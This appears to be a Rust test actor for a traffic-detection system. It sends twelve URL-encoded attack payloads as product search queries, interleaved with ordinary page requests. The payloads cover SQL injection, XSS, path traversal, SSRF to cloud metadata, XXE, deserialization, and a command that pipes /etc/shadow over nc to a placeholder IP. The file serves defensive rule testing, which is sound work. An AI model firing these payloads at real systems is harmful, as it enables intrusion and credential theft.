//! Those who search with what rules take for attacks: tools, and a course that learns about them.

use std::time::Duration;

use shield::timeline::Call;
use traffic::Timestamp;

use super::actor::{Actor, Asked, Client};

/// Texts, each of which a rule of its own takes for an attack, and none for one on a published
/// vulnerability: of these two are enough.
const TEXTS: [&str; 12] = [
    "1%27%20UNION%20SELECT%20name%2C%20secret%20FROM%20users--%20",
    "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E",
    "..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "%3B%20cat%20%2Fetc%2Fshadow%20%7C%20nc%20203.0.113.5%2099",
    "%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
    "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F",
    "*)(uid=*))(%7C(uid=*",
    "%3C%3Fphp%20system(%27id%27)%3B%20%3F%3E",
    "O%3A8%3A%22Evil%5CJob%22%3A1%3A%7Bs%3A3%3A%22cmd%22%3Bs%3A2%3A%22id%22%3B%7D",
    "%27%20or%20count(%2Fuser)%3D1%20or%20%27a%27%3D%27b",
    "1%3B%20WAITFOR%20DELAY%20%270%3A0%3A9%27--",
    "%3C%21DOCTYPE%20a%20%5B%3C%21ENTITY%20b%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E",
];

/// Searches for one text after the other, and reads ordinary pages in between.
#[derive(Debug)]
pub struct Searcher {
    kind: &'static str,
    client: Client,
    from: Timestamp,
    /// Ordinary pages after each text.
    between: u32,
    pace_ms: u32,
    asked: u32,
}

impl Searcher {
    /// All texts once.
    #[must_use]
    pub const fn new(
        kind: &'static str,
        client: Client,
        from: Timestamp,
        between: u32,
        pace_ms: u32,
    ) -> Self {
        Self { kind, client, from, between, pace_ms, asked: 0 }
    }

    fn next(&mut self) -> Option<Call> {
        let turn = self.between + 1;
        let (at, is_text) = (self.asked / turn, self.asked.is_multiple_of(turn));
        self.asked += 1;
        let text = TEXTS.get(at as usize)?;
        Some(match is_text {
            true => self.client.get(&format!("/api/products?q={text}")),
            false => self.client.get("/api/products/7"),
        })
    }
}

impl Actor for Searcher {
    fn kind(&self) -> &'static str {
        self.kind
    }

    fn begin(&mut self) -> Vec<Asked> {
        let at = self.from;
        self.next().map(|call| Asked { at, call }).into_iter().collect()
    }

    fn answered(&mut self, _: &Call, _: bool, _: u16, at: Timestamp) -> Vec<Asked> {
        let at = at.after(Duration::from_millis(u64::from(self.pace_ms)));
        self.next().map(|call| Asked { at, call }).into_iter().collect()
    }
}
